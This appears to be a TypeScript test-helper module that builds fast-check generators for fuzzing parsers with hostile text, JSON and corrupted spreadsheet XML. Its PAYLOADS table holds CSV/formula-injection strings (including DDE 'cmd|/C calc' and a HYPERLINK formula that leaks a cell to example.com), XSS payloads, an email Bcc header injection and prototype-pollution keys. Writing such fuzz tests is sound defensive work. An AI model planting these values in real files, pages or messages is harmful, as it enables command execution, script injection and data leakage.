import fc from 'fast-check';

/** What somebody may type, paste or send that programs elsewhere took for something else than a text. */
export const PAYLOADS = {
  formula: '=HYPERLINK("http://example.com?"&A1;"x")',
  plus: '+1+cmd|/C calc!A0',
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+9)*cmd',
  tab: '\t=1+1',
  'carriage return': '\r=1+1',
  apostrophe: "'=1+1",
  markup: '<img src=x onerror=alert(1)>',
  script: '</script><script>alert(1)</script>',
  attribute: '" onmouseover="alert(1)" x="',
  entity: '&lt;b&gt;&#0;&constructor;',
  'mail header': 'Ân\r\nBcc: ai@example.com\r\n\r\nx',
  address: 'a@example.com, b@example.com <c@example.com>',
  prototype: '__proto__',
  constructor: 'constructor',
  method: 'toString',
  'right to left': 'Ân\u202eexe.pdf',
  'zero width': 'A\u200bn\u2060\ufeff',
  'lone surrogate': 'x\ud83dy',
  template: '{{thành viên}}${1+1}{{#mỗi}}$&$1',
  'line separator': 'a\u2028b\u0000c',
  'script address': 'javascript:alert(1)',
  long: 'Nguyễn '.repeat(7142),
} as const;

export type Payload = keyof typeof PAYLOADS;

/** Any text: pieces that mean something to a parser, put together anyhow, with what somebody hostile would put between. */
export function textOf(...pieces: readonly string[]): fc.Arbitrary<string> {
  const piece = fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...pieces) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 6 }) },
    { weight: 1, arbitrary: fc.constantFrom(...Object.values(PAYLOADS).filter((text) => text.length < 100)) },
  );
  return fc.oneof(
    { weight: 20, arbitrary: fc.array(piece, { maxLength: 12 }).map((parts) => parts.join('')) },
    // As much as a cell holds, of one thing again and again.
    {
      weight: 1,
      arbitrary: piece.map((part) => part.repeat(Math.ceil(50_000 / Math.max(1, part.length))).slice(0, 50_000)),
    },
  );
}

/** Any JSON whose keys are those of a message, or those that every object has. */
export function jsonOf(...keys: readonly string[]): fc.Arbitrary<unknown> {
  const key = fc.constantFrom(...keys, '__proto__', 'constructor', 'toString', 'length', '0');
  const leaf = fc.oneof(
    fc.constantFrom(null, true, 0, -1, 1.5, 1e308, '', 'x'),
    fc.integer(),
    fc.constantFrom(...keys),
    fc.constantFrom(...Object.values(PAYLOADS).filter((text) => text.length < 100)),
  );
  const { value } = fc.letrec<{ value: unknown }>((tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      leaf,
      fc.array(tie('value'), { maxLength: 4 }),
      fc
        .array(fc.tuple(key, tie('value')), { maxLength: 5 })
        // As a parser makes them: `__proto__` is then a key like others.
        .map(
          (entries) =>
            JSON.parse(
              `{${entries.map(([name, one]) => `${JSON.stringify(name)}:${JSON.stringify(one)}`).join()}}`,
            ) as unknown,
        ),
    ),
  }));
  return value;
}

/** Bytes of a file, some of them replaced, repeated or left out. */
export function spoilt(whole: Uint8Array): fc.Arbitrary<Uint8Array> {
  const cut = fc.record({
    at: fc.nat(Math.max(0, whole.length - 1)),
    gone: fc.nat(40),
    put: fc.oneof(
      fc.uint8Array({ maxLength: 8 }),
      fc.constantFrom(...SNIPPETS).map((text) => Buffer.from(text)),
    ),
  });
  return fc
    .array(cut, { minLength: 1, maxLength: 4 })
    .map((cuts) =>
      cuts.reduce<Uint8Array>(
        (bytes, { at, gone, put }) => Buffer.concat([bytes.subarray(0, at), put, bytes.subarray(at + gone)]),
        whole,
      ),
    );
}

/** Pieces of XML that are right somewhere else. */
const SNIPPETS = [
  '<c r="ZZZ9999999" t="s"><v>99999999</v></c>',
  '<c r="A0"/>',
  '<row r="0"/>',
  '<row r="-1"/>',
  't="constructor"',
  's="-5"',
  '&constructor;',
  '&#xD800;',
  '&#99999999;',
  '<!DOCTYPE x [<!ENTITY a "b">]>',
  '<![CDATA[',
  ']]>',
  '</',
  '<f t="shared" si="0"/>',
  '<mergeCell ref="ZZZZ1:A1"/>',
  '<table:table-cell table:number-columns-repeated="999999999" office:value-type="float" office:value="1"/>',
  '<table:table-row table:number-rows-repeated="999999999">',
  'w:val="-99999999999"',
  '<w:tbl>',
];
